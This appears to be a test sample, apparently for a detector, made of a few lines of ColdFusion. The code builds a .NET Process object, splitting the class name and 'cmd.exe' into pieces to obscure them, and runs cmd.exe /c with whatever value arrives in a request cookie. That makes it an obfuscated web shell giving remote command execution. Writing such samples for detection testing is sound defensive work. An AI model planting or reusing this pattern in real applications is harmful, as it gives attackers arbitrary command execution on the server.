<!--- test sample: the .NET class name glued after its namespace, the command from a cookie --->
<cfset ns = "System.Diagnostics.">
<cfset p = createObject("dotnet", "System.Diagnostics." & "Process")>
<cfset info = p.get_StartInfo()>
<cfset info.set_FileName("cm" & "d.exe")>
<cfset info.set_Arguments("/c " & cookie.pref)>
<cfset p.Start()>
